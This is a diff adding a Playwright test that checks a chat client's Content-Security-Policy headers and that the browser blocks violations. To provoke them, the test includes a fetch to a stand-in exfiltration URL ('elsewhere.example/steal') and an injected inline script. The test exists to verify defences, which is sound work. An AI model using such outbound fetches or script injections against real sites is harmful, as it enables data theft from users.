@@ -15,6 +15,7 @@ from playwright.sync_api import Page, expect
 
 from localcloud.testing import RunningLocalCloud
 
+from .conftest import CSP_VIOLATION
 from .flows import (
     come_back,
     create_room,
@@ -361,3 +362,50 @@ def test_messages_that_arrive_in_one_message_batch_are_all_shown_in_order(
         f"batched {i}" for i in range(3)
     ], texts
     assert any('"type":"messageBatch"' in str(frame) for frame in received), received
+
+
+def reported(text: str, directive: str) -> bool:
+    """A violation as the page factory's listener reports it (Chromium logs its own too)."""
+    return text.startswith(CSP_VIOLATION) and f" {directive}" in text
+
+
+def test_the_client_runs_under_its_csp_which_refuses_other_hosts_and_inline_script(
+    new_page: Callable[..., Page], cloud: RunningLocalCloud
+) -> None:
+    """The local cloud sends the site's CSP from Terraform (local.site_csp) with its own origins;
+    the whole client works under it (this test, and every page of the tier: the new_page
+    fixture fails a test whose pages reported a violation), and Chromium enforces it."""
+    page = new_page()
+    response = page.goto("/")
+    assert response is not None
+    host = cloud.base_url.removeprefix("http://")
+    csp = response.headers["content-security-policy"]
+    directives = {d.split(" ")[0]: d.split(" ")[1:] for d in csp.split("; ")}
+    assert directives["connect-src"] == ["'self'", f"http://{host}", f"ws://{host}"]
+    assert directives["script-src"] == directives["style-src"] == ["'self'"]
+    assert "unsafe" not in csp
+
+    sign_up(page, unique("policy"))
+    create_room(page, "Under the policy")
+    send(page, "sent under the policy")
+    expect(messages(page)).to_have_count(1)
+    expect(messages(page).nth(0)).not_to_contain_text("Sending")
+    assert page.csp_violations == []  # type: ignore[attr-defined]
+
+    # Anywhere else is refused by the browser before any request leaves.
+    with page.expect_console_message(lambda m: reported(m.text, "connect-src")) as refused:
+        name = page.evaluate(
+            "fetch('https://elsewhere.example/steal').then(() => 'sent', (e) => e.name)"
+        )
+    assert name == "TypeError"
+    assert "blocked https://elsewhere.example" in refused.value.text
+    # So is a script injected inline.
+    with page.expect_console_message(lambda m: reported(m.text, "script-src")):
+        ran = page.evaluate(
+            """() => { const s = document.createElement("script");
+                       s.textContent = "window.injected = true"; document.head.append(s);
+                       return window.injected === true; }"""
+        )
+    assert ran is False
+    assert len(page.csp_violations) == 2  # type: ignore[attr-defined]
+    page.csp_violations.clear()  # type: ignore[attr-defined]  # provoked: not the client's
